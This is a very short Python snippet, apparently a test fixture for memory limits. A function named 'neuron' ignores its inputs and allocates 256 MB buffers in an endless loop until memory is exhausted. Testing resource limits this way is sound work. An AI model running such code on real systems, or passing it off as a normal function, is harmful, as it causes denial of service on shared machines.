# As much memory as there is.
def neuron(x, w, b):
    kept = []
    while True:
        kept.append(bytearray(1 << 28))
